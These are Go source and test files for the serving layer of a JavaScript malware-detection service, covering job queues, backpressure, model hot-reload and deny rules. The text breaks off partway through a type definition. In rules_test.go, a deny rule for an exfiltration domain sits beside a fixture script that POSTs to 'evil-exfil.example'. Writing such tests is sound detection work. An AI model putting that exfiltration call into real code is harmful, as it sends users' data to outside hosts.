func TestDurablePoisonDeadLetters(t *testing.T) {
	s, ts, reg := newTestServer(t, Config{
		ModelPath:        "model",
		Loader:           stubLoader(map[string]scan.Classifier{"model": flagEvil}),
		QueueDir:         t.TempDir(),
		QueueMaxAttempts: 2,
	})
	// Inject the poison below the HTTP layer: the submit path can only
	// produce well-formed payloads.
	if err := s.q.Enqueue("poison", 0, []byte("certainly not json")); err != nil {
		t.Fatal(err)
	}
	v := pollJob(t, ts, "poison")
	if v.State != JobFailed {
		t.Fatalf("poison job state = %s, want failed", v.State)
	}
	if v.Attempt != 2 {
		t.Errorf("poison job attempt = %d, want 2", v.Attempt)
	}
	if !strings.Contains(v.Error, "undecodable payload") {
		t.Errorf("poison job error = %q", v.Error)
	}
	if n := reg.Counter(queue.DeadLetterMetric, "", nil).Value(); n != 1 {
		t.Errorf("dead letter counter = %d, want 1", n)
	}
	if n := reg.Counter(queue.RetriesMetric, "", nil).Value(); n != 1 {
		t.Errorf("retries counter = %d, want 1", n)
	}
}

// TestDurableBacklogWatermark: once the durable backlog (pending + leased)
// reaches the watermark, admission sheds new work with 429 and Retry-After
// until the workers catch up.
func TestDurableBacklogWatermark(t *testing.T) {
	entered := make(chan struct{}, 4)
	release := make(chan struct{})
	_, ts, reg := newTestServer(t, Config{
		ModelPath:      "model",
		Loader:         stubLoader(map[string]scan.Classifier{"model": selectiveBlock(entered, release)}),
		QueueDir:       t.TempDir(),
		JobWorkers:     1,
		QueueWatermark: 1,
	})

	first := postBatch(t, ts, `{"name":"stuck.js","source":"block();"}`+"\n")
	<-entered // leased: depth 1 == watermark

	resp, err := http.Post(ts.URL+"/jobs", "application/x-ndjson",
		strings.NewReader(ndjsonBatch("b.js")))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("submit past watermark = %d, want 429", resp.StatusCode)
	}
	if resp.Header.Get("Retry-After") == "" {
		t.Error("backlog 429 without Retry-After")
	}
	if n := reg.Counter(AdmissionRejectsMetric, "", obs.Labels{"reason": "backlog"}).Value(); n != 1 {
		t.Errorf("backlog reject counter = %d, want 1", n)
	}

	// Caught up, admission opens again.
	close(release)
	if v := pollJob(t, ts, first); v.State != JobDone {
		t.Fatalf("first job state = %s", v.State)
	}
	second := submitJob(t, ts, "c.js")
	if v := pollJob(t, ts, second); v.State != JobDone {
		t.Fatalf("second job state = %s", v.State)
	}
}

// TestDurableResultTTLAnswers410: after the result TTL the reaper removes
// a finished durable job, and polls for its id answer 410 Gone — not the
// 404 reserved for ids that never existed.
func TestDurableResultTTLAnswers410(t *testing.T) {
	if testing.Short() {
		t.Skip("waits for the reaper's 1s scan period")
	}
	_, ts, _ := newTestServer(t, Config{
		ModelPath: "model",
		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
		QueueDir:  t.TempDir(),
		JobTTL:    50 * time.Millisecond,
	})
	id := submitJob(t, ts, "a.js")
	if v := pollJob(t, ts, id); v.State != JobDone {
		t.Fatalf("job state = %s", v.State)
	}
	deadline := time.Now().Add(5 * time.Second)
	for {
		resp, err := http.Get(ts.URL + "/jobs/" + id)
		if err != nil {
			t.Fatal(err)
		}
		if resp.StatusCode == http.StatusGone {
			var body struct {
				Reason string `json:"reason"`
			}
			if err := json.NewDecoder(resp.Body).Decode(&body); err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if body.Reason != "expired" {
				t.Errorf("410 reason = %q, want expired", body.Reason)
			}
			return
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("poll status = %d before expiry turned 410", resp.StatusCode)
		}
		if time.Now().After(deadline) {
			t.Fatal("finished job never expired to 410")
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// TestDurableDrainKeepsQueuedJobs: drain waits only for leases held by
// this process; jobs still queued stay in the WAL for the next start
// instead of holding shutdown open.
func TestDurableDrainKeepsQueuedJobs(t *testing.T) {
	dir := t.TempDir()
	entered := make(chan struct{}, 4)
	release := make(chan struct{})
	cfg := Config{
		ModelPath:  "model",
		Loader:     stubLoader(map[string]scan.Classifier{"model": selectiveBlock(entered, release)}),
		QueueDir:   dir,
		JobWorkers: 1,
	}
	s1, ts1, _ := newTestServer(t, cfg)
	postBatch(t, ts1, `{"name":"stuck.js","source":"block();"}`+"\n")
	<-entered
	idQueued := submitJob(t, ts1, "a.js")

	// The held lease pins a short drain open...
	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
	err := s1.Drain(ctx)
	cancel()
	if err == nil {
		t.Fatal("drain with a held lease should time out")
	}
	// ...but once it finishes, drain completes even though a job is still
	// queued.
	close(release)
	ctx2, cancel2 := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel2()
	if err := s1.Drain(ctx2); err != nil {
		t.Fatalf("drain after release: %v", err)
	}
	s1.Close()
	ts1.Close()

	// The queued job is still there for the next process.
	cfg2 := cfg
	cfg2.Loader = stubLoader(map[string]scan.Classifier{"model": flagEvil})
	_, ts2, _ := newTestServer(t, cfg2)
	if v := pollJob(t, ts2, idQueued); v.State != JobDone || len(v.Results) != 1 {
		t.Fatalf("queued-across-drain job = %+v", v)
	}
}
