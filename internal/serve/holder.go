package serve

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"jsrevealer/internal/core"
	"jsrevealer/internal/rules"
	"jsrevealer/internal/scan"
)

// Loader turns a model file into a classifier plus the hex SHA-256 of the
// model bytes. The default loads a persisted core.Detector; tests inject
// stubs so the suite never trains a model.
type Loader func(path string) (scan.Classifier, string, error)

// coreLoader is the production Loader: read the model file once, digest it,
// and deserialize the detector from the same bytes.
func coreLoader(path string) (scan.Classifier, string, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, "", fmt.Errorf("serve: load model: %w", err)
	}
	sum := sha256.Sum256(data)
	det := new(core.Detector)
	if err := det.UnmarshalJSON(data); err != nil {
		return nil, "", fmt.Errorf("serve: load model %s: %w", path, err)
	}
	return det, hex.EncodeToString(sum[:]), nil
}

// model is one immutable loaded-model generation: the engine built around
// it plus the provenance /version exposes. Reloads swap whole generations
// atomically; in-flight requests keep the generation they started with.
type model struct {
	engine   *scan.Engine
	path     string
	sha      string
	loadedAt time.Time
}

// Version is the /version payload: which model is taking traffic and how it
// got there, plus the live rule set when the rules layer is enabled.
type Version struct {
	ModelLoaded bool      `json:"model_loaded"`
	ModelPath   string    `json:"model_path,omitempty"`
	SHA256      string    `json:"sha256,omitempty"`
	LoadedAt    time.Time `json:"loaded_at,omitempty"`
	Reloads     int64     `json:"reloads"`
	// Rules describes the live rule-set generation; absent when the rules
	// layer is disabled.
	Rules *rules.Info `json:"rules,omitempty"`
}

// holder owns the live model generation behind an atomic pointer, so reads
// on the request path are a single atomic load and reloads never block
// traffic. Reloads themselves are serialized and shadow-validated: a
// candidate model must classify the embedded smoke corpus without error
// before it takes traffic, so a corrupt or incompatible file can never
// replace a working model.
type holder struct {
	cur     atomic.Pointer[model]
	loader  Loader
	scanCfg scan.Config
	reloads atomic.Int64

	mu sync.Mutex // serializes reload attempts
}

// smokeCorpus is the embedded shadow-validation set: a few small scripts
// spanning plain code, control flow, and the suspicious-pattern territory
// the detector exists for. Validation demands no errors, not particular
// verdicts — the point is catching models that cannot classify at all.
var smokeCorpus = []scan.Source{
	{Name: "smoke-plain.js", Content: "function greet(name) { return 'hello ' + name; }\ngreet('world');"},
	{Name: "smoke-loop.js", Content: "var total = 0;\nfor (var i = 0; i < 100; i++) { total += i * i; }"},
	{Name: "smoke-dynamic.js", Content: "var payload = unescape('%61%6c%65%72%74');\nvar fn = new Function(payload + '(1)');\nfn();"},
}

// smokeTimeout bounds the whole shadow-validation pass; a model that cannot
// classify three tiny scripts in this budget has no business taking traffic.
const smokeTimeout = 30 * time.Second

func newHolder(loader Loader, scanCfg scan.Config) *holder {
	if loader == nil {
		loader = coreLoader
	}
	return &holder{loader: loader, scanCfg: scanCfg}
}

// current returns the generation taking traffic (nil before the first load).
func (h *holder) current() *model { return h.cur.Load() }

// reload loads path, shadow-validates the classifier, and — only then —
// swaps it in as the live generation. On any error the previous generation
// keeps serving untouched.
func (h *holder) reload(path string) (*model, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	c, sha, err := h.loader(path)
	if err != nil {
		return nil, err
	}
	if err := shadowValidate(c); err != nil {
		return nil, fmt.Errorf("serve: shadow validation rejected %s: %w", path, err)
	}
	// Stamp the generation's digest into the engine so every audit line
	// names the exact weights that produced its verdict.
	cfg := h.scanCfg
	cfg.AuditModel = sha
	m := &model{
		engine:   scan.New(c, cfg),
		path:     path,
		sha:      sha,
		loadedAt: time.Now(),
	}
	h.cur.Store(m)
	h.reloads.Add(1)
	return m, nil
}

// shadowValidate runs the candidate classifier over the smoke corpus before
// it can take traffic.
func shadowValidate(c scan.Classifier) error {
	ctx, cancel := context.WithTimeout(context.Background(), smokeTimeout)
	defer cancel()
	for _, s := range smokeCorpus {
		if _, err := c.DetectCtx(ctx, s.Content); err != nil {
			return fmt.Errorf("%s: %w", s.Name, err)
		}
	}
	return nil
}

// version snapshots the holder for /version.
func (h *holder) version() Version {
	m := h.current()
	if m == nil {
		return Version{Reloads: h.reloads.Load()}
	}
	return Version{
		ModelLoaded: true,
		ModelPath:   m.path,
		SHA256:      m.sha,
		LoadedAt:    m.loadedAt,
		Reloads:     h.reloads.Load(),
	}
}
