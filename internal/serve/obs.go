package serve

import (
	"jsrevealer/internal/obs"
)

// Metric families emitted by the serving subsystem, all on the registry the
// server exposes at /metrics alongside the scan and stage families.
const (
	// QueueDepthMetric gauges requests currently waiting for an admission
	// slot — the serving layer's backpressure signal.
	QueueDepthMetric = "jsrevealer_serve_queue_depth"
	// QueueWaitMetric is the time an admitted request spent waiting in the
	// admission queue before a concurrency slot freed up.
	QueueWaitMetric = "jsrevealer_serve_queue_wait_seconds"
	// AdmissionRejectsMetric counts requests turned away before any work
	// was done, by reason
	// (queue_full|rate_limited|draining|no_model|backlog).
	AdmissionRejectsMetric = "jsrevealer_serve_admission_rejects_total"
	// RequestDurationMetric is the per-endpoint request latency histogram,
	// admission wait included.
	RequestDurationMetric = "jsrevealer_serve_request_duration_seconds"
	// ReloadsMetric counts model reload attempts by result (ok|error); the
	// initial load at startup counts as one ok.
	ReloadsMetric = "jsrevealer_serve_reloads_total"
	// JobsMetric counts async jobs by lifecycle event
	// (submitted|done|failed|evicted).
	JobsMetric = "jsrevealer_serve_jobs_total"
	// JobsInflightMetric gauges jobs accepted but not yet finished (queued
	// or running).
	JobsInflightMetric = "jsrevealer_serve_jobs_inflight"
)

// Endpoints instrumented with per-endpoint latency series; pre-registered
// so the full surface is visible before the first request.
var endpoints = []string{"/detect", "/scan", "/jobs", "/admin/reload", "/admin/reload-rules"}

// rejectReasons is the closed label set of AdmissionRejectsMetric.
var rejectReasons = []string{"queue_full", "rate_limited", "draining", "no_model", "backlog"}

// jobEvents is the closed label set of JobsMetric.
var jobEvents = []string{"submitted", "done", "failed", "evicted"}

// RegisterMetrics pre-creates every serve metric series in reg (all label
// values, zero-valued), so /metrics shows the full surface before traffic.
func RegisterMetrics(reg *obs.Registry) {
	newMetrics(reg)
}

// metrics caches the subsystem's instrument pointers so hot paths pay
// pointer derefs, not registry lookups.
type metrics struct {
	queueDepth  *obs.Gauge
	queueWait   *obs.Histogram
	rejects     map[string]*obs.Counter
	latency     map[string]*obs.Histogram
	reloadOK    *obs.Counter
	reloadErr   *obs.Counter
	jobs        map[string]*obs.Counter
	jobInflight *obs.Gauge
}

func newMetrics(reg *obs.Registry) *metrics {
	m := &metrics{
		queueDepth: reg.Gauge(QueueDepthMetric,
			"Requests waiting for an admission slot.", nil),
		queueWait: reg.Histogram(QueueWaitMetric,
			"Seconds an admitted request waited for a concurrency slot.",
			obs.DefDurationBuckets, nil),
		rejects: make(map[string]*obs.Counter, len(rejectReasons)),
		latency: make(map[string]*obs.Histogram, len(endpoints)),
		reloadOK: reg.Counter(ReloadsMetric,
			"Model reload attempts by result.", obs.Labels{"result": "ok"}),
		reloadErr: reg.Counter(ReloadsMetric,
			"Model reload attempts by result.", obs.Labels{"result": "error"}),
		jobs: make(map[string]*obs.Counter, len(jobEvents)),
		jobInflight: reg.Gauge(JobsInflightMetric,
			"Async jobs accepted but not yet finished.", nil),
	}
	for _, reason := range rejectReasons {
		m.rejects[reason] = reg.Counter(AdmissionRejectsMetric,
			"Requests rejected before any work was done, by reason.",
			obs.Labels{"reason": reason})
	}
	for _, ep := range endpoints {
		m.latency[ep] = reg.Histogram(RequestDurationMetric,
			"Per-endpoint request latency in seconds, admission wait included.",
			obs.DefDurationBuckets, obs.Labels{"endpoint": ep})
	}
	for _, ev := range jobEvents {
		m.jobs[ev] = reg.Counter(JobsMetric,
			"Async jobs by lifecycle event.", obs.Labels{"event": ev})
	}
	return m
}
