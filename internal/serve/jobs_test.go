package serve

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"jsrevealer/internal/obs"
	"jsrevealer/internal/scan"
)

// submitJob posts an NDJSON batch to /jobs and returns the accepted id.
func submitJob(t *testing.T, ts *httptest.Server, names ...string) string {
	t.Helper()
	resp, err := http.Post(ts.URL+"/jobs", "application/x-ndjson",
		strings.NewReader(ndjsonBatch(names...)))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusAccepted {
		t.Fatalf("/jobs status = %d, want 202", resp.StatusCode)
	}
	var acc struct {
		ID      string `json:"id"`
		State   string `json:"state"`
		Scripts int    `json:"scripts"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&acc); err != nil {
		t.Fatal(err)
	}
	if acc.ID == "" || acc.State != string(JobQueued) || acc.Scripts != len(names) {
		t.Fatalf("acceptance = %+v", acc)
	}
	return acc.ID
}

// pollJob polls GET /jobs/{id} until the job reaches a terminal state.
func pollJob(t *testing.T, ts *httptest.Server, id string) JobView {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		resp, err := http.Get(ts.URL + "/jobs/" + id)
		if err != nil {
			t.Fatal(err)
		}
		var v JobView
		err = json.NewDecoder(resp.Body).Decode(&v)
		resp.Body.Close()
		if err != nil {
			t.Fatal(err)
		}
		if v.State == JobDone || v.State == JobFailed {
			return v
		}
		time.Sleep(2 * time.Millisecond)
	}
	t.Fatalf("job %s never finished", id)
	return JobView{}
}

func TestJobLifecycle(t *testing.T) {
	_, ts, reg := newTestServer(t, Config{
		ModelPath: "model",
		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
	})
	id := submitJob(t, ts, "a.js", "evil-b.js", "c.js")
	v := pollJob(t, ts, id)
	if v.State != JobDone || v.Scripts != 3 || len(v.Results) != 3 {
		t.Fatalf("finished job = %+v", v)
	}
	flagged := 0
	for _, r := range v.Results {
		if r.Malicious {
			flagged++
		}
	}
	if flagged != 1 {
		t.Errorf("flagged %d of 3, want 1", flagged)
	}
	if v.StartedAt == nil || v.FinishedAt == nil {
		t.Error("finished job missing timestamps")
	}
	if n := reg.Counter(JobsMetric, "", obs.Labels{"event": "done"}).Value(); n != 1 {
		t.Errorf("jobs done counter = %d, want 1", n)
	}
	if g := reg.Gauge(JobsInflightMetric, "", nil).Value(); g != 0 {
		t.Errorf("jobs inflight gauge = %v, want 0", g)
	}

	// Unknown ids are a clean 404.
	resp, err := http.Get(ts.URL + "/jobs/deadbeef00000000")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Errorf("unknown job status = %d, want 404", resp.StatusCode)
	}
}

// TestJobStoreBoundsAndTTL: a full store of unfinished jobs sheds load;
// finished jobs are evicted for room and expire after the TTL.
func TestJobStoreBoundsAndTTL(t *testing.T) {
	entered := make(chan struct{}, 4)
	release := make(chan struct{})
	_, ts, reg := newTestServer(t, Config{
		ModelPath: "model",
		Loader:    stubLoader(map[string]scan.Classifier{"model": blockingClassifier(entered, release)}),
		MaxJobs:   1,
		JobTTL:    250 * time.Millisecond,
	})

	first := submitJob(t, ts, "a.js")
	<-entered // the job is running and parked

	// Store full of unfinished work: submission sheds as 429.
	resp, err := http.Post(ts.URL+"/jobs", "application/x-ndjson",
		strings.NewReader(ndjsonBatch("b.js")))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("submit into full store = %d, want 429", resp.StatusCode)
	}
	if ra := resp.Header.Get("Retry-After"); ra == "" {
		t.Error("job 429 without Retry-After")
	}

	close(release)
	if v := pollJob(t, ts, first); v.State != JobDone {
		t.Fatalf("first job state = %s", v.State)
	}

	// The finished job makes room for the next submission (forced
	// eviction), after which the first id is gone.
	second := submitJob(t, ts, "c.js")
	if v := pollJob(t, ts, second); v.State != JobDone {
		t.Fatalf("second job state = %s", v.State)
	}
	respGone, err := http.Get(ts.URL + "/jobs/" + first)
	if err != nil {
		t.Fatal(err)
	}
	var goneBody struct {
		Error  string `json:"error"`
		Reason string `json:"reason"`
	}
	if err := json.NewDecoder(respGone.Body).Decode(&goneBody); err != nil {
		t.Fatal(err)
	}
	respGone.Body.Close()
	if respGone.StatusCode != http.StatusGone {
		t.Errorf("evicted job status = %d, want 410", respGone.StatusCode)
	}
	if goneBody.Reason != "expired" || goneBody.Error == "" {
		t.Errorf("410 body = %+v, want a JSON reason", goneBody)
	}
	if n := reg.Counter(JobsMetric, "", obs.Labels{"event": "evicted"}).Value(); n < 1 {
		t.Errorf("evicted counter = %d, want >= 1", n)
	}

	// TTL expiry: the second job answers 410 once its TTL passes — while an
	// id that never existed stays a plain 404.
	time.Sleep(400 * time.Millisecond)
	respTTL, err := http.Get(ts.URL + "/jobs/" + second)
	if err != nil {
		t.Fatal(err)
	}
	respTTL.Body.Close()
	if respTTL.StatusCode != http.StatusGone {
		t.Errorf("expired job status = %d, want 410", respTTL.StatusCode)
	}
	respNone, err := http.Get(ts.URL + "/jobs/feedfacecafebeef")
	if err != nil {
		t.Fatal(err)
	}
	respNone.Body.Close()
	if respNone.StatusCode != http.StatusNotFound {
		t.Errorf("never-existed job status = %d, want 404", respNone.StatusCode)
	}
}

// TestDrainWaitsForJobs: drain blocks until accepted jobs finish, timing
// out when they do not.
func TestDrainWaitsForJobs(t *testing.T) {
	entered := make(chan struct{}, 4)
	release := make(chan struct{})
	s, ts, _ := newTestServer(t, Config{
		ModelPath: "model",
		Loader:    stubLoader(map[string]scan.Classifier{"model": blockingClassifier(entered, release)}),
	})
	id := submitJob(t, ts, "a.js")
	<-entered

	// The parked job holds the drain open past a short deadline.
	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
	err := s.Drain(ctx)
	cancel()
	if err == nil {
		t.Fatal("drain with a parked job should time out")
	}

	// Released, the job finishes and a fresh drain completes.
	close(release)
	ctx2, cancel2 := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel2()
	if err := s.Drain(ctx2); err != nil {
		t.Fatalf("drain after release: %v", err)
	}
	if v := pollJob(t, ts, id); v.State != JobDone {
		t.Errorf("job state after drain = %s, want done", v.State)
	}
}
