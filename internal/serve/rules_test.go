package serve

import (
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"jsrevealer/internal/obs"
	"jsrevealer/internal/rules"
	"jsrevealer/internal/scan"
)

// denyRuleJSON deny-lists an exfiltration domain at critical severity; any
// script whose literals reference it must convict regardless of the model.
const denyRuleJSON = `{
  "version": 1,
  "deny": [
    {"id": "exfil-c2", "severity": "critical", "domains": ["evil-exfil.example"]}
  ]
}`

// writeRuleDir materializes a rule directory with a single file and returns
// its path, so tests can point Config.RulesDir at a real on-disk set.
func writeRuleDir(t *testing.T, content string) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "deny.json"), []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return dir
}

// denyScript references the deny-listed domain; the flagEvil stub model
// considers it benign (no "evil();" call), so any malicious verdict must
// come from the rules layer.
const denyScript = `fetch("https://evil-exfil.example/collect", {method: "POST"});`

// TestRulesDenyFlipsDetectVerdict is the acceptance-criterion test: a
// deny-listed domain flips a model-benign script to malicious through
// /detect, with rule provenance in the JSON response.
func TestRulesDenyFlipsDetectVerdict(t *testing.T) {
	dir := writeRuleDir(t, denyRuleJSON)
	_, ts, _ := newTestServer(t, Config{
		ModelPath: "model",
		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
		RulesDir:  dir,
	})

	resp, err := http.Post(ts.URL+"/detect?name=deny.js", "text/javascript",
		strings.NewReader(denyScript))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status = %d, want 200", resp.StatusCode)
	}
	var body struct {
		Verdict   string      `json:"verdict"`
		Malicious bool        `json:"malicious"`
		Tier      string      `json:"tier"`
		RuleHits  []rules.Hit `json:"rule_hits"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&body); err != nil {
		t.Fatal(err)
	}
	if !body.Malicious {
		t.Fatalf("deny-listed script not convicted: %+v", body)
	}
	if body.Tier != scan.TierRules {
		t.Fatalf("tier = %q, want %q", body.Tier, scan.TierRules)
	}
	if len(body.RuleHits) == 0 || body.RuleHits[0].Rule != "exfil-c2" {
		t.Fatalf("rule_hits missing deny provenance: %+v", body.RuleHits)
	}

	// A clean script through the same server stays model-governed benign:
	// the rules layer must not leak verdicts across requests.
	resp2, err := http.Post(ts.URL+"/detect?name=clean.js", "text/javascript",
		strings.NewReader("var x = 1 + 2;"))
	if err != nil {
		t.Fatal(err)
	}
	defer resp2.Body.Close()
	var clean struct {
		Malicious bool            `json:"malicious"`
		RuleHits  json.RawMessage `json:"rule_hits"`
	}
	if err := json.NewDecoder(resp2.Body).Decode(&clean); err != nil {
		t.Fatal(err)
	}
	if clean.Malicious {
		t.Fatal("clean script convicted with rules enabled")
	}
	if len(clean.RuleHits) != 0 {
		t.Fatalf("clean script carries rule_hits: %s", clean.RuleHits)
	}
}

// TestRulesDenyVisibleInScanNDJSON checks the batch surface: rule_hits must
// ride each NDJSON verdict line, and only on the lines that actually hit.
func TestRulesDenyVisibleInScanNDJSON(t *testing.T) {
	dir := writeRuleDir(t, denyRuleJSON)
	_, ts, _ := newTestServer(t, Config{
		ModelPath: "model",
		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
		RulesDir:  dir,
	})

	var b strings.Builder
	for _, rec := range []record{
		{Name: "clean.js", Source: "var x = 1;"},
		{Name: "deny.js", Source: denyScript},
	} {
		line, _ := json.Marshal(rec)
		b.Write(line)
		b.WriteByte('\n')
	}
	resp, err := http.Post(ts.URL+"/scan", "application/x-ndjson", strings.NewReader(b.String()))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status = %d, want 200", resp.StatusCode)
	}
	lines := decodeLines(t, resp.Body)
	deny, ok := lines["deny.js"]
	if !ok {
		t.Fatalf("no verdict line for deny.js: %v", lines)
	}
	if !deny.Malicious || len(deny.RuleHits) == 0 || deny.RuleHits[0].Rule != "exfil-c2" {
		t.Fatalf("deny.js line lacks rule provenance: %+v", deny)
	}
	clean := lines["clean.js"]
	if clean.Malicious || len(clean.RuleHits) != 0 {
		t.Fatalf("clean.js polluted by rules: %+v", clean)
	}
}

// TestReloadRulesEndpoint drives the hot-reload lifecycle: a successful
// reload bumps the generation, a broken rule file is rejected with 422 while
// the previous set keeps convicting, and /version reports the live set.
func TestReloadRulesEndpoint(t *testing.T) {
	dir := writeRuleDir(t, denyRuleJSON)
	s, ts, _ := newTestServer(t, Config{
		ModelPath: "model",
		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
		RulesDir:  dir,
	})

	// Successful reload: same directory, next generation.
	resp, err := http.Post(ts.URL+"/admin/reload-rules", "", nil)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("reload status = %d, want 200", resp.StatusCode)
	}
	var info rules.Info
	if err := json.NewDecoder(resp.Body).Decode(&info); err != nil {
		t.Fatal(err)
	}
	if info.Gen < 2 || info.Rules != 1 {
		t.Fatalf("reload info = %+v, want gen >= 2 with 1 rule", info)
	}

	// Corrupt the directory: reload must fail 422 and leave the old set
	// serving — the acceptance criterion "broken rule file rejected by
	// shadow validation without dropping traffic".
	if err := os.WriteFile(filepath.Join(dir, "deny.json"), []byte(`{"version": 1, "deny": [`), 0o644); err != nil {
		t.Fatal(err)
	}
	resp2, err := http.Post(ts.URL+"/admin/reload-rules", "", nil)
	if err != nil {
		t.Fatal(err)
	}
	defer resp2.Body.Close()
	if resp2.StatusCode != http.StatusUnprocessableEntity {
		t.Fatalf("broken reload status = %d, want 422", resp2.StatusCode)
	}

	// The previous generation still convicts the deny-listed script.
	resp3, err := http.Post(ts.URL+"/detect", "text/javascript", strings.NewReader(denyScript))
	if err != nil {
		t.Fatal(err)
	}
	defer resp3.Body.Close()
	var body struct {
		Malicious bool   `json:"malicious"`
		Tier      string `json:"tier"`
	}
	if err := json.NewDecoder(resp3.Body).Decode(&body); err != nil {
		t.Fatal(err)
	}
	if !body.Malicious || body.Tier != scan.TierRules {
		t.Fatalf("old rule set dropped after failed reload: %+v", body)
	}

	// /version names the live generation — still the pre-failure one.
	v := s.Version()
	if v.Rules == nil {
		t.Fatal("Version.Rules absent with rules enabled")
	}
	if v.Rules.Gen != info.Gen {
		t.Fatalf("Version rules gen = %d, want %d (failed reload must not advance)", v.Rules.Gen, info.Gen)
	}
}

// TestReloadRulesUnconfigured verifies the endpoint answers 503 when the
// server was started without a rule directory.
func TestReloadRulesUnconfigured(t *testing.T) {
	_, ts, _ := newTestServer(t, Config{
		ModelPath: "model",
		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
	})
	resp, err := http.Post(ts.URL+"/admin/reload-rules", "", nil)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("status = %d, want 503", resp.StatusCode)
	}
}

// TestNewRejectsBrokenInitialRules mirrors the model behavior: a server must
// refuse to start on an invalid rule directory rather than serve rule-less.
func TestNewRejectsBrokenInitialRules(t *testing.T) {
	dir := writeRuleDir(t, `{"version": 99}`)
	_, err := New(Config{
		ModelPath: "model",
		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
		RulesDir:  dir,
		Scan:      scan.Config{CacheSize: -1},
	}, obs.NewRegistry())
	if err == nil {
		t.Fatal("New accepted a broken rule directory")
	}
}
