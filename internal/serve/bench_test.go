package serve

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"jsrevealer/internal/obs"
	"jsrevealer/internal/scan"
)

// BenchmarkServeScanBatch measures the serving layer's per-batch overhead —
// admission, NDJSON parse, worker fan-out, and streamed encoding — around a
// near-free classifier, so the number tracks the subsystem itself rather
// than model inference.
func BenchmarkServeScanBatch(b *testing.B) {
	instant := scan.ClassifierFunc(func(ctx context.Context, src string) (bool, error) {
		return strings.Contains(src, "evil"), nil
	})
	s, err := New(Config{
		ModelPath: "model",
		Loader: func(string) (scan.Classifier, string, error) {
			return instant, "bench", nil
		},
		Scan: scan.Config{CacheSize: -1},
	}, obs.NewRegistry())
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	var batch strings.Builder
	for i := 0; i < 16; i++ {
		src := fmt.Sprintf("var v%d = %d; function f%d(){ return v%d * 2; }", i, i, i, i)
		if i%4 == 0 {
			src += " evil();"
		}
		fmt.Fprintf(&batch, "{\"name\":\"s%d.js\",\"source\":%q}\n", i, src)
	}
	body := batch.String()
	client := ts.Client()

	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		resp, err := client.Post(ts.URL+"/scan", "application/x-ndjson", strings.NewReader(body))
		if err != nil {
			b.Fatal(err)
		}
		if _, err := io.Copy(io.Discard, resp.Body); err != nil {
			b.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			b.Fatalf("status %d", resp.StatusCode)
		}
	}
}
