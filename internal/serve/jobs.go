package serve

import (
	"crypto/rand"
	"encoding/hex"
	"sync"
	"time"

	"jsrevealer/internal/scan"
)

// JobState is the lifecycle of one async scan job.
type JobState string

const (
	// JobQueued: accepted, waiting for a job worker.
	JobQueued JobState = "queued"
	// JobRunning: a worker is scanning the job's scripts.
	JobRunning JobState = "running"
	// JobDone: every script has a verdict; results are available.
	JobDone JobState = "done"
	// JobFailed: the job could not run (e.g. the model was unloaded
	// between submission and execution).
	JobFailed JobState = "failed"
)

// job is one accepted async submission. Mutable state is guarded by mu;
// the sources slice is written once at submission and read-only afterwards.
type job struct {
	id        string
	sources   []scan.Source
	submitted time.Time
	trace     string // submitting request's traceparent; worker spans join it
	reqID     string // submitting request's id, for the audit trail

	mu       sync.Mutex
	state    JobState
	started  time.Time
	finished time.Time
	results  []verdictLine
	errMsg   string
}

// JobView is the GET /jobs/{id} payload: a consistent snapshot of the job.
type JobView struct {
	ID          string        `json:"id"`
	State       JobState      `json:"state"`
	Scripts     int           `json:"scripts"`
	SubmittedAt time.Time     `json:"submitted_at"`
	StartedAt   *time.Time    `json:"started_at,omitempty"`
	FinishedAt  *time.Time    `json:"finished_at,omitempty"`
	Results     []verdictLine `json:"results,omitempty"`
	Error       string        `json:"error,omitempty"`
	// Attempt counts durable deliveries that failed or were cut short by a
